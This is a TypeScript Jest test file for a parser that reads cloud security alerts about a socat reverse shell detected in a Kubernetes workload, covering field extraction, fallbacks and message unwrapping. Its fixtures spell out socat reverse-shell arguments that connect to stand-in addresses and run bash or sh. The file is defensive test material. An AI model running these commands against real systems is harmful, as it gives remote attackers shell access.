import { describe, expect, it } from '@jest/globals';
import { InvalidInputError } from '../../lib/errors.js';
import { unwrapEnvelope } from '../../lib/finding/envelope.js';
import { decodeJsonString, parseClusterResourceName, parseNotification } from '../../lib/finding/parse.js';
import { notificationFixture, pubsubBody } from '../support/fixtures.js';

const clone = <T>(v: T): T => structuredClone(v);

describe('parseNotification', () => {
  it('reads a v2 notification with every Step 1 field', () => {
    const f = parseNotification(notificationFixture('socat-v2'));
    expect(f.name).toBe('organizations/123456789012/sources/9876543210123456789/locations/global/findings/4d2c7e1f0b9a48e6a3c5d7f9e1b2c3d4');
    expect(f.category).toBe('Execution: Socat Reverse Shell Detected');
    expect(f.state).toBe('ACTIVE');
    expect(f.severity).toBe('CRITICAL');
    expect(f.organization).toBe('123456789012');
    expect(f.projectDisplayName).toBe('shop-prod-4711');
    expect(f.cluster).toEqual({
      project: 'shop-prod-4711',
      location: 'us-central1',
      name: 'shop-prod',
      locationType: 'regional',
      resourceName: '//container.googleapis.com/projects/shop-prod-4711/locations/us-central1/clusters/shop-prod',
    });
    expect(f.workload).toEqual({
      namespace: 'shop',
      pod: 'checkout-7d9fb6c5d4-x2lqp',
      container: 'checkout',
      image: 'us-docker.pkg.dev/shop-prod-4711/apps/checkout:1.14.2',
      node: 'gke-shop-prod-default-pool-3f2a9c1e-k8vz',
    });
    expect(f.socat).toEqual({
      name: 'socat',
      binary: '/usr/bin/socat',
      args: ['socat', 'TCP:203.0.113.77:4444', 'EXEC:/bin/bash,pty,stderr,setsid,sigint,sane'],
      argsTruncated: false,
      pid: 4120,
      parentPid: 4101,
    });
    expect(f.processes).toHaveLength(2);
    expect(f.mitre?.primaryTechniques).toEqual(['UNIX_SHELL', 'COMMAND_AND_SCRIPTING_INTERPRETER']);
  });

  it('reads a v1 notification: zones/ form, top-level projectDisplayName, JSON-encoded args, fallbacks', () => {
    const f = parseNotification(notificationFixture('socat-v1-zonal'));
    expect(f.projectDisplayName).toBe('batch-analytics');
    expect(f.cluster).toMatchObject({ project: '987654321098', location: 'europe-west1-c', name: 'batch-eu', locationType: 'zonal' });
    // Only Pod_Namespace is in sourceProperties; the rest falls back to kubernetes/containers/nodes.
    expect(f.workload).toEqual({
      namespace: 'jobs',
      pod: 'nightly-etl-29384756-vq7z2',
      container: 'worker',
      image: 'docker.io/library/python:3.12-slim',
      node: 'gke-batch-eu-pool-1-9c8b7a6d-2x4f',
    });
    expect(f.socat?.binary).toBe('/tmp/.x/socat');
    expect(f.socat?.args).toEqual(['/tmp/.x/socat', 'OPENSSL:[2001:db8:4::77]:443,verify=0', "SYSTEM:'sh -i',pty,stderr"]);
    expect(f.socat?.argsTruncated).toBe(true);
    expect(f.socat?.pid).toBe(771);
    expect(f.organization).toBe('123456789012');
  });

  it('falls back to containers[] when kubernetes is absent, and leaves unknowns null', () => {
    const n = clone(notificationFixture('socat-v2'));
    delete n.finding.sourceProperties;
    delete n.finding.kubernetes;
    const f = parseNotification(n);
    expect(f.workload).toEqual({ namespace: null, pod: null, container: 'checkout', image: 'us-docker.pkg.dev/shop-prod-4711/apps/checkout:1.14.2', node: null });
  });

  it('accepts a whole argv packed into one JSON array string', () => {
    const n = clone(notificationFixture('socat-v2'));
    n.finding.processes = [{ binary: { path: '/usr/bin/socat' }, args: ['["socat","TCP:198.51.100.9:80","EXEC:sh"]'] }];
    expect(parseNotification(n).socat?.args).toEqual(['socat', 'TCP:198.51.100.9:80', 'EXEC:sh']);
  });

  it('picks the socat process, not the first one', () => {
    const f = parseNotification(notificationFixture('socat-v2'));
    expect(f.socat?.pid).toBe(4120);
  });

  it.each([
    ['not an object', 42, /invalid notification/],
    ['no finding', { resource: {} }, /finding/],
    ['empty category', { finding: { name: 'x', category: '' } }, /finding.category/],
    ['args not an array', { finding: { name: 'x', category: 'c', processes: [{ args: 'socat' }] } }, /finding.processes.0.args/],
    ['pid not a number', { finding: { name: 'x', category: 'c', processes: [{ pid: 'abc' }] } }, /finding.processes.0.pid/],
    ['marks not strings', { finding: { name: 'x', category: 'c', securityMarks: { marks: { a: 1 } } } }, /finding.securityMarks.marks.a/],
  ])('rejects %s with a message naming the field', (_name, input, message) => {
    expect(() => parseNotification(input)).toThrow(InvalidInputError);
    expect(() => parseNotification(input)).toThrow(message);
  });
});

describe('parseClusterResourceName', () => {
  it.each([
    ['//container.googleapis.com/projects/p1/locations/us-central1/clusters/c', 'us-central1', 'regional'],
    ['//container.googleapis.com/projects/p1/locations/us-central1-a/clusters/c', 'us-central1-a', 'zonal'],
    ['//container.googleapis.com/projects/123/zones/europe-west4-b/clusters/c', 'europe-west4-b', 'zonal'],
    ['//container.googleapis.com/projects/p1/locations/northamerica-northeast1/clusters/c', 'northamerica-northeast1', 'regional'],
  ])('%s', (name, location, locationType) => {
    expect(parseClusterResourceName(name)).toMatchObject({ location, locationType, name: 'c' });
  });

  it.each([
    '//compute.googleapis.com/projects/p1/zones/us-central1-a/instances/vm',
    '//container.googleapis.com/projects/p1/locations/global/clusters/c',
    '//container.googleapis.com/projects/p1/locations/us-central1/clusters/c/extra',
  ])('returns null for %s', (name) => {
    expect(parseClusterResourceName(name)).toBeNull();
  });
});

describe('decodeJsonString', () => {
  it.each([
    ['"/usr/bin/socat"', '/usr/bin/socat'],
    ['/usr/bin/socat', '/usr/bin/socat'],
    ['"unterminated', '"unterminated'],
    ['"a\\"b"', 'a"b'],
    ['""', ''],
  ])('%s → %s', (input, expected) => {
    expect(decodeJsonString(input)).toBe(expected);
  });
});

describe('unwrapEnvelope', () => {
  const notification = notificationFixture('socat-v2');

  it('decodes a Pub/Sub push body / CloudEvent data', () => {
    const u = unwrapEnvelope(pubsubBody(notification, { messageId: '77', publishTime: '2026-11-27T02:41:20Z' }));
    expect(u.notification).toEqual(notification);
    expect(u.delivery).toEqual({ messageId: '77', publishTime: '2026-11-27T02:41:20Z' });
  });

  it('passes a NotificationMessage through and wraps a bare Finding', () => {
    expect(unwrapEnvelope(notification).notification).toBe(notification);
    expect(unwrapEnvelope(notification.finding).notification).toEqual({ finding: notification.finding });
  });

  it.each([
    ['a string', 'hello', /not a JSON object/],
    ['message without data', { message: {} }, /message.data is missing/],
    ['data not base64', { message: { data: '***' } }, /not base64/],
    ['data not JSON', { message: { data: Buffer.from('{nope').toString('base64') } }, /message.data is not valid JSON/],
    ['unknown object', { hello: 'world' }, /not a Pub\/Sub message/],
  ])('rejects %s', (_name, input, message) => {
    expect(() => unwrapEnvelope(input)).toThrow(message);
  });
});

describe("the finding's own pod labels (kubernetes.pods[].labels, repeated Label {name, value})", () => {
  const withPods = (pods: unknown) => {
    const n = notificationFixture('socat-v2');
    (n.finding as Record<string, any>).kubernetes.pods = pods;
    return n;
  };

  it('are read from the entry for the workload pod, in order', () => {
    expect(parseNotification(notificationFixture('socat-v2')).podLabels).toEqual([
      { name: 'app', value: 'checkout' },
      { name: 'pod-template-hash', value: '7d9fb6c5d4' },
    ]);
  });

  it('an entry about another pod lends nothing; an omitted value (proto3 JSON) is the empty string', () => {
    const other = withPods([{ ns: 'shop', name: 'someone-else', labels: [{ name: 'app', value: 'x' }] }]);
    expect(parseNotification(other).podLabels).toBeNull();
    const f = parseNotification(notificationFixture('socat-v2'));
    const omitted = withPods([{ ns: f.workload.namespace, name: f.workload.pod, labels: [{ name: 'canary' }] }]);
    expect(parseNotification(omitted).podLabels).toEqual([{ name: 'canary', value: '' }]);
  });

  it('malformed labels are a clear error naming the field', () => {
    const f = parseNotification(notificationFixture('socat-v2'));
    const bad = withPods([{ ns: f.workload.namespace, name: f.workload.pod, labels: { app: 'x' } }]);
    expect(() => parseNotification(bad)).toThrow(InvalidInputError);
    expect(() => parseNotification(bad)).toThrow(/kubernetes\.pods\.0\.labels/);
  });
});
